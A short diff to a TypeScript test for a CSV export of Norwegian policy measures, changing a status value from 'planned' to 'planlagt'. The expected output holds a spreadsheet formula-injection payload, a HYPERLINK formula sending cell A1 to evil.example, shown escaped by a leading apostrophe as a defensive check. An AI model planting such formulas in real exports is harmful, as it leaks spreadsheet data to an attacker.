@@ -17,7 +17,7 @@ const content = path.join(scratch, 'content');
 function measure(id: string, yamlTitle: string): void {
   writeFileSync(
     path.join(content, 'tiltak', `${id}.md`),
-    `---\nid: ${id}\ntitle: ${yamlTitle}\ngoals: [M-1]\nresponsible: [KD]\nsectors: [barnehage]\nstart: 2025\ndeadline: 2027\nstatus: planned\n---\nTekst.\n`,
+    `---\nid: ${id}\ntitle: ${yamlTitle}\ngoals: [M-1]\nresponsible: [KD]\nsectors: [barnehage]\nstart: 2025\ndeadline: 2027\nstatus: planlagt\n---\nTekst.\n`,
   );
 }
 
@@ -40,7 +40,7 @@ describe('tiltak.csv', () => {
     const working = site.editions.find((edition) => edition.id === 'utkast')!;
     const rows = measuresCsv(working).split('\r\n');
     const row = (id: string) => rows.find((line) => line.startsWith(`${id},`));
-    const rest = ',planned,2025,2027,barnehage,KD,,M-1,,,false,nb';
+    const rest = ',planlagt,2025,2027,barnehage,KD,,M-1,,,false,nb';
     expect(row('T-20')).toBe(`T-20,"'=HYPERLINK(""https://evil.example/?q=""&A1,""klikk"")"${rest}`);
     expect(row('T-21')).toBe(`T-21,'+1${rest}`);
     expect(row('T-22')).toBe(`T-22,'-1${rest}`);
